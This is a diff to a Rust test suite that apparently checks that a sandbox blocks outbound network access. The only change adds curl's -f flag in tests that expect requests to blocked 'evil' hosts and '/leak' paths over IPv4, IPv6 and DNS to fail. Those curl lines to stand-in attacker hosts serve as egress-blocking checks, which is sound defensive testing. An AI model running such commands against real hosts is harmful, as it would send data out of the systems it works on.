@@ -21,7 +21,7 @@ fn a_box_needs_no_engine_and_keeps_the_policy() {
     for (who, refused) in guest.everybody("curl -sS -m 10 http://leak.evil.test/") {
         assert!(!refused.ok() && refused.err.contains("resolve"), "{who}: {refused:?}");
     }
-    let direct = format!("curl -sS -m 10 http://{}/leak", address("evil"));
+    let direct = format!("curl -fsS -m 10 http://{}/leak", address("evil"));
     for (who, refused) in guest.everybody(&direct) {
         assert!(!refused.ok(), "{who}: {refused:?}");
     }
@@ -213,7 +213,7 @@ fn a_box_has_ipv6_where_the_host_forwards_it() {
     let mut with = host.boot("one", &options);
     let page = with.agent("curl -6 -sS -m 10 http://onlysix.test/");
     assert!(page.out.contains(&format!("token-{}", address("ok_v6"))), "{page:?}\n{}", with.said);
-    let literal = with.agent(&format!("curl -6 -sS -m 10 'http://[{}]/leak'", address("evil_v6")));
+    let literal = with.agent(&format!("curl -6 -fsS -m 10 'http://[{}]/leak'", address("evil_v6")));
     assert!(!literal.ok() && !host.world.saw("leak"), "{literal:?}");
     let packets = host.world.packets_since(mark);
     let six = packets.iter().filter(|packet| packet["dst"] == address("ok_v6"));
